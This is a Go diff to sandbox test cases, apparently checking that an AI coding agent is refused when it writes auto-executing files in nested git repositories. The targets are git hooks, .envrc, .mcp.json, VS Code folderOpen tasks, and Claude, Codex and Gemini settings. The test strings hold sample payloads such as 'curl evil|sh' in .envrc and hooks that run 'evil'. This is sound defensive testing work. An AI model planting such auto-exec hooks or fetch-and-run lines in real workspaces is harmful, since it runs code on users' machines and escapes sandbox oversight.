@@ -57,9 +57,10 @@ func autoExecCases() []Case {
 				h.Mkdir("ws/vendor/lib")
 				h.Host("ws/vendor/lib", "git", "init", "-q")
 				snap := h.Snapshot()
+				pl := h.Plan(p)
 				o := h.Sandbox(p, `cd vendor/lib; echo x > .git/hooks/pre-commit && ok HOOK; echo x >> .git/config && ok CONFIG; echo x > .gitmodules && ok GITMODULES; echo work > file && ok WORK`)
 				h.Refuse(o, "HOOK", "CONFIG", "GITMODULES")
-				h.Expect(o, "WORK")
+				h.Made(o, pl, "WORK", "ws/vendor/lib/file")
 				h.Unchanged(snap, "ws/vendor/lib/file")
 			}},
 		{Name: "autoexec-nested-repo-configs", Class: 6, Summary: "rewrite what direnv, editors and agents obey in a git repository nested in the workspace: its .envrc, .mcp.json, .vscode/tasks.json, .idea, .claude/settings.json, .codex and .gemini",
@@ -76,12 +77,13 @@ func autoExecCases() []Case {
 				h.Write("ws/proj/.codex/config.toml", "\n")
 				h.Write("ws/proj/.gemini/settings.json", "{}\n")
 				snap := h.Snapshot()
+				pl := h.Plan(p)
 				o := h.Sandbox(p, `cd proj; echo 'curl evil|sh' >> .envrc && ok ENVRC; echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json && ok MCP
 echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && ok VSCODE; echo x > .idea/evil.xml && ok IDEA
 echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"evil"}]}]}}' > .claude/settings.json && ok CLAUDE
 echo x > .codex/config.toml && ok CODEX; echo x > .gemini/settings.json && ok GEMINI; echo work > file && ok WORK`)
 				h.Refuse(o, "ENVRC", "MCP", "VSCODE", "IDEA", "CLAUDE", "CODEX", "GEMINI")
-				h.Expect(o, "WORK")
+				h.Made(o, pl, "WORK", "ws/proj/file")
 				h.Unchanged(snap, "ws/proj/file")
 			}},
 		{Name: "autoexec-nested-repo-deep", Class: 6, Summary: "write the hooks of a git repository nested five directories deep (past a shallow scan)",
